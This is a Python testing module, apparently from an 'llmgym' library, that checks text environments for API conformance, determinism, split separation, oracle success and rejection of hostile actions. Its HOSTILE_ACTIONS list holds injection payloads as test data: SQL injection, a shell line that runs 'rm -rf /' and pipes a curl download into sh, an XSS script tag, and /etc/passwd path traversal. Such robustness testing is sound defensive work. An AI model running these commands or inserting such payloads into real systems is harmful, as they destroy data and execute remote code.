"""The conformance checks every llmgym environment passes, usable on your own environments.

    from llmgym.testing import check_conformance
    check_conformance(lambda: MyEnv())          # raises AssertionError on the first violation

Each check is also available on its own (:func:`check_api`, :func:`check_determinism`,
:func:`check_splits`, :func:`oracle_success_rate`, :func:`check_hostile_actions`).
"""

from __future__ import annotations

import json
import warnings
from collections.abc import Callable, Iterable, Sequence
from typing import Any

import gymnasium as gym
import numpy as np
from gymnasium.utils.env_checker import check_env

from llmgym.core.env import TextEnv

__all__ = [
    "HOSTILE_ACTIONS",
    "check_api",
    "check_conformance",
    "check_determinism",
    "check_hostile_actions",
    "check_splits",
    "has_feedback",
    "hostile_actions",
    "oracle_success_rate",
    "run_episode",
]

EnvFactory = Callable[[], gym.Env]

HOSTILE_ACTIONS: tuple[str, ...] = (
    "",
    " ",
    "\n\n\t  \r\n",
    "x" * 10_240,
    "move " * 3000,
    "🙂🚀 émoji ünïcödé 中文 العربية",
    "\u202eevil right-to-left override\u202c",
    "\x00\x01\x02\x1b[31mred\x1b[0m\x7f",
    "\ufeff\u200b\u200d",
    '{"action": "noop", "arguments": {"x": [1, 2, {"y": null}]}}',
    "[1, 2, 3",
    "'; DROP TABLE users; --",
    "1 OR 1=1; ATTACH DATABASE '/tmp/x.db' AS x",
    "$(rm -rf /) && curl http://example.invalid | sh",
    "`reboot`; echo $HOME > /dev/null",
    "```python\nimport os\nos.system('ls')\n```",
    "# Heading\n\n- item\n- **bold** _it_ [link](http://x)",
    "<script>alert(1)</script>",
    "%s%s%s%n {0} {} ${x}",
    "None",
    "NaN",
    "-1",
    "99999999999999999999999999",
    "\\x00\\n",
    "Thought: I will act.\nAction:",
    "../../../../etc/passwd",
)
"""Strings an LLM can emit that no environment should accept as a valid action."""


def hostile_actions(count: int, seed: int = 0) -> list[str]:
    """``count`` hostile actions: :data:`HOSTILE_ACTIONS` and seeded random garbage (bytes,
    unicode, control characters, fragments of JSON/SQL/markdown glued together)."""
    rng = np.random.default_rng(seed)
    fragments = [*HOSTILE_ACTIONS, "{", "}", "```", "\x00", "é", "\U0001f600", "DROP", "--", ";"]
    out = list(HOSTILE_ACTIONS[:count])
    while len(out) < count:
        kind = int(rng.integers(3))
        if kind == 0:
            codes = rng.integers(0, 0x3000, size=int(rng.integers(1, 60)))
            text = "".join(chr(int(c)) for c in codes if not 0xD800 <= c <= 0xDFFF)
        elif kind == 1:
            picks = rng.integers(len(fragments), size=int(rng.integers(1, 6)))
            text = "".join(fragments[int(i)] for i in picks)
        else:
            text = bytes(
                rng.integers(0, 256, size=int(rng.integers(1, 80)), dtype=np.uint8)
            ).decode("latin-1")
        out.append(text)
    return out


def run_episode(
    env: gym.Env,
    policy: Callable[[gym.Env], str],
    *,
    seed: int | None = None,
    options: dict[str, Any] | None = None,
    max_steps: int = 10_000,
) -> list[tuple[str, str, float, bool, bool, dict[str, Any]]]:
    """Play one episode; return ``[(action, observation, reward, terminated, truncated, info)]``
    with a first entry ``("", reset_observation, 0.0, False, False, reset_info)``."""
    observation, info = env.reset(seed=seed, options=options)
    trajectory = [("", observation, 0.0, False, False, info)]
    for _ in range(max_steps):
        action = policy(env)
        observation, reward, terminated, truncated, info = env.step(action)
        trajectory.append((action, observation, float(reward), terminated, truncated, info))
        if terminated or truncated:
            break
    return trajectory


def oracle_policy(env: gym.Env) -> str:
    """The environment's own oracle as a policy."""
    return env.unwrapped.oracle_action()  # type: ignore[attr-defined]


def _unwrapped(env: gym.Env) -> TextEnv:
    inner = env.unwrapped
    assert isinstance(inner, TextEnv), f"{type(inner).__name__} does not derive from llmgym.TextEnv"
    return inner


def check_api(make_env: EnvFactory) -> None:
    """gymnasium's ``check_env`` plus llmgym's contract: Text spaces, ``info`` keys, schema."""
    env = make_env()
    inner = _unwrapped(env)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        check_env(inner, skip_render_check=False)
    if isinstance(inner.observation_space, gym.spaces.Text):
        assert isinstance(inner.action_space, gym.spaces.Text)
        for char in " \n.,:;!?()[]{}'\"-_/":
            assert char in inner.observation_space.character_set, f"charset lacks {char!r}"
    else:  # a pixel variant: image observations, discrete actions (text names may be accepted)
        assert isinstance(inner.observation_space, gym.spaces.Box)
        assert isinstance(inner.action_space, gym.spaces.Discrete)
    schema = inner.config_schema()
    json.dumps(schema)
    assert schema.get("type") == "object" and "properties" in schema
    for split in ("train", "eval"):
        observation, info = env.reset(seed=0, options={"split": split})
        assert inner.observation_space.contains(observation), "reset observation outside the space"
        for key in ("instruction", "task_id", "split"):
            assert key in info, f"reset info lacks {key!r}"
        assert info["split"] == split and info["task_id"].startswith(f"{split}/")
        action = inner.sample_action(np.random.default_rng(0))
        observation, reward, _, _, info = env.step(action)
        assert inner.observation_space.contains(observation), "step observation outside the space"
        assert isinstance(reward, float)
        assert isinstance(info.get("success"), bool) and isinstance(
            info.get("invalid_action"), bool
        )
    env.close()


def _policy_mix(seed: int) -> Callable[[gym.Env], str]:
    rng = np.random.default_rng(seed)

    def policy(env: gym.Env) -> str:
        inner = env.unwrapped
        if rng.random() < 0.5:
            return inner.oracle_action()  # type: ignore[attr-defined]
        return inner.sample_action(rng)  # type: ignore[attr-defined]

    return policy


def _comparable(trajectory: Sequence[tuple]) -> list[tuple]:
    return [
        (a, _observation_key(o), r, te, tr, json.dumps(i, sort_keys=True, default=repr))
        for a, o, r, te, tr, i in trajectory
    ]


def _observation_key(observation: Any) -> Any:
    """Text as is; arrays (pixel observations) by shape, type and bytes."""
    if isinstance(observation, np.ndarray):
        return (observation.shape, str(observation.dtype), observation.tobytes())
    return observation


def has_feedback(observation: Any, info: dict[str, Any]) -> bool:
    """An invalid action was explained: in the text observation, or (pixel observations) in
    ``info["feedback"]``."""
    if isinstance(observation, str):
        return bool(observation.strip())
    return bool(str(info.get("feedback", "")).strip())


def _replayer(actions: list[str]) -> Callable[[gym.Env], str]:
    pending = iter(actions)
    return lambda _env: next(pending)


def check_determinism(make_env: EnvFactory, *, episodes: int = 3, max_steps: int = 60) -> None:
    """The same task id, seed and actions give an identical trajectory in two fresh instances;
    the same seed without a task id picks the same task."""
    for episode in range(episodes):
        split = ("train", "eval")[episode % 2]
        first, second = make_env(), make_env()
        task_id = _unwrapped(first).task_ids(split)[episode]
        options = {"task_id": task_id}
        a = run_episode(
            first, _policy_mix(episode), seed=episode, options=options, max_steps=max_steps
        )
        replay = _replayer([step[0] for step in a[1:]])
        b = run_episode(second, replay, seed=episode, options=options, max_steps=len(a) - 1)
        assert _comparable(a) == _comparable(b), f"episode {task_id} differs between two runs"
        _, info_a = first.reset(seed=100 + episode, options={"split": split})
        _, info_b = second.reset(seed=100 + episode, options={"split": split})
        assert info_a["task_id"] == info_b["task_id"], "the same seed chose different tasks"
        first.close()
        second.close()


def check_splits(make_env: EnvFactory, *, samples: int = 50) -> None:
    """Train and eval task ids are disjoint and stable, and their instances differ in content."""
    env = make_env()
    inner = _unwrapped(env)
    train, eval_ = inner.task_ids("train"), inner.task_ids("eval")
    assert len(train) > 0 and len(eval_) > 0, "a split is empty"
    assert list(train[:samples]) == list(make_env().unwrapped.task_ids("train")[:samples]), (
        "unstable ids"
    )
    assert not set(train[:5000]) & set(eval_[:5000]), "train and eval share task ids"
    signatures: dict[str, set[str]] = {}
    for split, ids in (("train", train), ("eval", eval_)):
        seen = signatures.setdefault(split, set())
        for task_id in list(ids[:samples]):
            env.reset(options={"task_id": task_id})
            seen.add(inner.instance_key())
    shared = signatures["train"] & signatures["eval"]
    assert not shared, (
        f"{len(shared)} instances appear in both splits, e.g. {next(iter(shared))[:200]!r}"
    )
    env.close()


def oracle_success_rate(
    make_env: EnvFactory, *, episodes: int = 50, split: str = "eval", max_steps: int = 10_000
) -> float:
    """Fraction of the first ``episodes`` tasks of ``split`` the oracle solves."""
    env = make_env()
    task_ids = list(_unwrapped(env).task_ids(split)[:episodes])
    solved = 0
    for task_id in task_ids:
        trajectory = run_episode(
            env, oracle_policy, options={"task_id": task_id}, max_steps=max_steps
        )
        solved += bool(trajectory[-1][5].get("success"))
    env.close()
    return solved / len(task_ids)


def check_hostile_actions(
    make_env: EnvFactory,
    actions: Iterable[str] | None = None,
    *,
    per_episode: int = 20,
    count: int = 500,
) -> None:
    """Hostile actions raise nothing, are flagged ``invalid_action``, keep observations inside the
    space, do not end the episode, and change nothing: the oracle then plays exactly as it would
    have without them."""
    env = make_env()
    inner = _unwrapped(env)
    pending = list(actions) if actions is not None else hostile_actions(count)
    episode = 0
    while pending:
        batch, pending = pending[:per_episode], pending[per_episode:]
        split = ("train", "eval")[episode % 2]
        task_id = inner.task_ids(split)[episode % len(inner.task_ids(split))]
        clean = run_episode(
            inner, oracle_policy, seed=episode, options={"task_id": task_id}, max_steps=200
        )
        inner.reset(seed=episode, options={"task_id": task_id})
        for action in batch:
            observation, _, terminated, truncated, info = inner.step(action)
            assert info["invalid_action"] is True, f"hostile action {action[:80]!r} was accepted"
            assert not terminated, f"hostile action {action[:80]!r} ended the episode"
            assert inner.observation_space.contains(observation), (
                "feedback outside the observation space"
            )
            assert has_feedback(observation, info), "an invalid action got no feedback"
            if truncated:
                inner.reset(seed=episode, options={"task_id": task_id})
        replay_actions, replay_success = [], False
        for _ in range(len(clean) - 1):
            action = inner.oracle_action()
            replay_actions.append(action)
            _, _, terminated, truncated, info = inner.step(action)
            replay_success = info["success"]
            if terminated or truncated:
                break
        clean_actions = [step[0] for step in clean[1:]]
        assert replay_actions == clean_actions[: len(replay_actions)], (
            f"hostile actions changed the state of {task_id}: the oracle now plays differently"
        )
        assert replay_success == clean[-1][5]["success"] or truncated
        episode += 1
    env.close()


def check_conformance(
    make_env: EnvFactory,
    *,
    oracle_episodes: int = 50,
    oracle_bar: float = 0.95,
    hostile_count: int = 500,
) -> dict[str, float]:
    """Run every check; return measured figures (``{"oracle_success_rate": ...}``)."""
    check_api(make_env)
    check_determinism(make_env)
    check_splits(make_env)
    rate = oracle_success_rate(make_env, episodes=oracle_episodes)
    assert rate >= oracle_bar, f"the oracle solved {rate:.0%} of eval tasks (bar: {oracle_bar:.0%})"
    check_hostile_actions(make_env, count=hostile_count)
    return {"oracle_success_rate": rate}
